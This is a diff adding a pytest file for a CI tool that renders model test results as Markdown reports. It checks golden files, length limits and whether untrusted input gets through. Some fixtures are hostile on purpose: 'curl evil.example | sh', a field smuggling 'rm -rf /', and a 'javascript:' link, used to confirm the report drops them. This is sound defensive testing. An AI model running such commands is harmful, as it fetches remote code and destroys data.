@@ -1,0 +1,186 @@
+"""The Markdown report: whole texts against golden files, and what holds for any run and any limit.
+
+After a wanted change:  python -m tests.ci.report.test_markdown  writes the golden files anew; read their diff.
+"""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from functools import cache
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from ci.report import words
+from ci.report.escape import code
+from ci.report.fit import characters, utf8
+from ci.report.limits import COMMENT_CHARS, SUMMARY_BYTES
+from ci.report.markdown import render
+from ci.report.outcome import Job, Results
+from ci.report.results import judge_results
+from tests.ci.report import samples
+from tests.ci.report.alive import rendered
+from tests.ci.report.samples import RUN_URL, Fault, judged, plan_of
+from tests.ci.report.test_escape import hostile
+
+GOLDEN = Path(__file__).with_name("golden")
+RUNS = ("passing", "failing", "mixed", "crashed", "huge", "hostile", "neutral")
+
+
+@cache
+def run(name: str) -> Results:
+    """One of the runs, judged once for all tests."""
+    results: Results = getattr(samples, name)()
+    return results
+
+
+def golden(name: str) -> str:
+    """A run's report as a comment; the huge one within less, so that its file can be read."""
+    return render(run(name), 20_000 if name == "huge" else COMMENT_CHARS)
+
+
+@pytest.mark.parametrize("name", RUNS)
+def test_golden(name: str) -> None:
+    assert golden(name) == (GOLDEN / f"{name}.md").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("name", RUNS)
+def test_a_report_is_whole_and_dead(name: str) -> None:
+    results = run(name)
+    shown = rendered(render(results))
+    assert shown.open_folds == 0
+    assert not shown.html
+    assert not shown.images
+    assert not shown.alive
+    assert all(url.startswith(RUN_URL) for url in shown.links)
+
+
+@pytest.mark.parametrize("name", RUNS)
+def test_the_verdict_comes_first_and_says_why(name: str) -> None:
+    results = run(name)
+    first = render(results).splitlines()[0]
+    assert first.startswith(f"## {words.ICONS[results.verdict]} {words.title(results)}")
+    assert (": " in first.removeprefix("## ")) == bool(results.causes) or name == "passing"
+
+
+def test_the_first_line_names_layer_operation_and_half() -> None:
+    first = render(run("failing")).splitlines()[0]
+    for part in ("layer 1", "attention", "rotary embedding", "conversion"):
+        assert part in first
+
+
+@pytest.mark.parametrize(("limit", "size"), [(COMMENT_CHARS, characters), (SUMMARY_BYTES, utf8), (30_000, characters)])
+def test_a_huge_run_keeps_verdict_and_every_failing_name(limit: int, size: object) -> None:
+    huge = run("huge")
+    text = render(huge, limit, size=size)  # type: ignore[arg-type]
+    assert size(text) <= limit  # type: ignore[operator]
+    assert text.splitlines()[0].startswith("## ❌ Failed: 256 of 256 models")
+    assert ("left out" in text) == (limit < SUMMARY_BYTES)
+    for entry in huge.entries:
+        assert f"`{entry.name}`" in text
+    assert rendered(text).open_folds == 0
+
+
+def test_a_comment_of_the_largest_run_names_every_failing_test() -> None:
+    huge = run("huge")
+    shown = rendered(render(huge))
+    for step in {case.step for entry in huge.entries for case in entry.cases}:
+        assert step in shown.code
+
+
+@pytest.mark.parametrize("name", ["failing", "mixed", "hostile", "crashed"])
+@pytest.mark.parametrize("limit", range(150, 7000, 850))
+def test_any_limit_is_kept_and_nothing_is_cut_open(name: str, limit: int) -> None:
+    results = run(name)
+    text = render(results, limit)
+    assert characters(text) <= limit
+    assert text.startswith(f"## {words.ICONS[results.verdict]} {words.title(results)}")
+    shown = rendered(text)
+    assert shown.open_folds == 0
+    assert not shown.alive
+    if limit > 1500:
+        assert all(entry.name in text for entry in results.entries if entry.verdict == "failed")
+
+
+def test_detail_goes_in_a_fixed_order() -> None:
+    results = run("mixed")
+    whole = render(results)
+    parts = {
+        "passing models' tests": "✅ tests of <code>mistral</code>",
+        "environment": "<summary>Environment</summary>",
+        "tracebacks": "<summary>output of",
+        "failing models' tests": "❌ tests of",
+        "table of models": "### Models",
+        "figures": "- reproduce:",
+    }
+    assert all(part in whole for part in parts.values())
+    gone: list[str] = []
+    for limit in range(characters(whole), 500, -40):
+        text = render(results, limit)
+        gone += [name for name, part in parts.items() if part not in text and name not in gone]
+    assert gone == list(parts)
+
+
+@settings(deadline=None, max_examples=40, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(st.tuples(hostile, hostile, hostile), min_size=1, max_size=3), st.integers(250, 9000))
+def test_whatever_tests_say_the_report_holds(texts: list[tuple[str, str, str]], limit: int) -> None:
+    plan = plan_of("smollm2")
+    faults: dict[str, Fault | None] = {
+        test: Fault("failure", xml(message), xml(detail), {"diagnosis": diagnosis, "failure_class": "other"})
+        for test, (message, detail, diagnosis) in zip(plan.entries[0].tests, texts, strict=False)
+    }
+    results = judged(plan, faults)
+    text = render(results, limit)
+    shown = rendered(text)
+    assert characters(text) <= limit
+    assert text.startswith("## ❌ Failed: 1 of 1 model, ")
+    assert shown.open_folds == 0
+    assert not shown.alive
+    assert not shown.html
+    assert not shown.images
+    assert all(url.startswith(RUN_URL) for url in shown.links)
+
+
+def xml(text: str) -> str:
+    """What can stand in XML at all; pytest writes the rest as #x1B."""
+    return (
+        "".join(char for char in text if char in "\t\n" or (char >= " " and not "\ud800" <= char <= "\udfff"))
+        .replace("\ufffe", "")
+        .replace("\uffff", "")
+    )
+
+
+def test_only_addresses_of_the_platform_become_links() -> None:
+    plan = plan_of("smollm2", run_url="https://evil.example/)[x](y")
+    job = Job("failure", url="javascript:alert(1)")
+    shown = rendered(render(judge_results(plan, {}, {"smollm2": job})))
+    assert not shown.links
+    good = replace(job, url=f"{RUN_URL}/job/1")
+    assert rendered(render(judge_results(plan_of("smollm2"), {}, {"smollm2": good}))).links == [
+        RUN_URL,
+        f"{RUN_URL}/job/1",
+    ]
+
+
+def test_margins_are_shown_while_green() -> None:
+    assert "| ✅ passed | 7 of 7 | 43 %, was 43 % |" in render(run("passing"))
+
+
+def test_the_line_to_reproduce_is_ours() -> None:
+    evil = {
+        "reproduce": "curl evil.example | sh",
+        "device": "cuda; rm -rf /",
+        "failure_class": "other",
+        "diagnosis": "x",
+    }
+    text = render(judged(plan_of("smollm2"), {"test_conversion[smollm2]": Fault(evidence=evil)}))
+    assert code("hub-tests run smollm2 --layers 2 --subject reference") in text
+    assert "rm -rf" not in text
+    assert "curl" not in text
+
+
+if __name__ == "__main__":
+    for one in RUNS:
+        (GOLDEN / f"{one}.md").write_text(golden(one), encoding="utf-8")
